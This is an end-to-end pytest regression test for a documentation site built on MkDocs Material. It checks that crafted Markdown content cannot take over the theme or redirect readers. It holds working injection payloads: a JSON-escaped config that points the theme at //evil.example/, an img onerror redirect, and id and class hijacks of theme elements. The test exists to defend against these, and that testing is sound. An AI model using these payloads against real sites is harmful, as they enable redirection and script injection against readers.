"""Content cannot take over the theme, in a real browser (issue 20).

`{: #__config }` on a paragraph of JSON made Material read its settings from the content, and a
crafted string then sent a reader to another host through the search results. `check` refuses
such names; this test switches that wall off, so the payloads reach the build, and shows that the
sanitizer's wall holds alone: in Chromium, after a search, the page is still on this host and each
of the theme's ids names the theme's own element, and no payload element carries a theme name."""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from audit.browser import serve
from generator.checks import markup
from generator.cli import main
from tests.e2e.test_build import ROOT

MINI = ROOT / "tests" / "fixtures" / "mini"
MARK = "TAKEOVER-PAYLOAD"
# Material's settings, with `<`, `=` and the other host's address written as JSON escapes: the other
# walls of `check` (raw HTML, attributes, unlisted links) do not see them, JSON.parse decodes them.
CONFIG = json.dumps({
    "base": "//evil.example/", "features": [], "search": "//evil.example/worker.js",
    "translations": {"search.result.none": f"<img src=x onerror=\"location='//evil.example/'\">{MARK}"},
}).replace("<", "\\u003c").replace("=", "\\u003d")
PAYLOADS = f"""
{CONFIG}
{{: #__config }}

{MARK} dialog.
{{: #__search .md-dialog .md-dialog--active data-md-component="dialog" data-md-state="lock" }}

### {MARK} drawer {{#__drawer}}

!!! md-overlay "{MARK} overlay"
    It would cover the page.

### __toc
"""


@pytest.fixture(scope="module")
def takeover_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = tmp_path_factory.mktemp("takeover")
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    shutil.copytree(ROOT / "docs", project / "docs")
    shutil.copytree(MINI, project / "content")
    topic = project / "content" / "topics" / "alpha.md"
    topic.write_text(topic.read_text(encoding="utf-8").replace("## Going deeper\n", f"## Going deeper\n{PAYLOADS}\n", 1), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:  # the first wall off: only the sanitizer stands
        patch.setattr(markup, "_check_theme_names", lambda text, report: None)
        assert main(["build", "--config", str(project / "mkdocs.yml")]) == 0
    return project / "site"


THEME_NAMES = """
const article = document.querySelector('article');
const payload = [...article.querySelectorAll('*')].filter(e => e.textContent.includes(arguments[0]) && e.children.length === 0 || e.id === '__toc' || e.id === '__config');
const named = [];
for (const e of article.querySelectorAll('*')) {
  if (!e.closest('article')) continue;
  const inPayload = payload.some(p => p === e || p.contains(e) || e.contains(p));
  if (!inPayload) continue;
  for (const a of e.attributes) {
    if (a.name === 'id' && (a.value.startsWith('__') || a.value.startsWith('md-'))) named.push(e.tagName + '#' + a.value);
    if (a.name.startsWith('data-md-')) named.push(e.tagName + '[' + a.name + ']');
  }
  for (const c of e.classList) if (c.startsWith('md-') && !['md-typeset', 'md-content__inner'].includes(c)) named.push(e.tagName + '.' + c);
}
return {
  named: named,
  owners: ['__config', '__search', '__drawer', '__toc'].map(id => {
    const all = document.querySelectorAll('[id="' + id + '"]');
    return [id, all.length, all.length ? all[0].tagName : null, all.length ? !!all[0].closest('article') : null];
  }),
  dialogs: document.querySelectorAll('.md-dialog--active').length,
  searchAnswered: (document.querySelector('.md-search-result__meta') || {}).textContent || '',
  injectedImages: document.querySelectorAll('img[onerror]').length,
};
"""


def test_no_redirect_and_no_injected_element(driver, takeover_site: Path) -> None:  # type: ignore[no-untyped-def]
    with serve(takeover_site) as base:
        driver.get(base + "/basics/alpha/")
        assert MARK in driver.page_source  # the payloads arrived, as text
        driver.execute_script(
            "var s = document.querySelector('input.md-search__input');"
            "s.focus(); s.value = 'zzzz-no-such-word'; s.dispatchEvent(new Event('input', {bubbles: true}));"
        )
        time.sleep(1.0)  # the search worker answers (a redirect would happen here)
        assert urlsplit(driver.current_url).netloc == urlsplit(base).netloc
        found = driver.execute_script(THEME_NAMES, MARK)
    driver.get_log("performance")  # leave no request of this page for the privacy gate
    assert found["searchAnswered"].strip(), "Material's search did not run: the test would prove nothing"
    assert found["named"] == []
    owners = {row[0]: row[1:] for row in found["owners"]}
    assert owners["__config"] == [1, "SCRIPT", False]
    assert owners["__search"] == [1, "INPUT", False] and owners["__drawer"] == [1, "INPUT", False]
    assert owners["__toc"][0] <= 1 and owners["__toc"][2] in (False, None)
    assert found["dialogs"] == 0 and found["injectedImages"] == 0
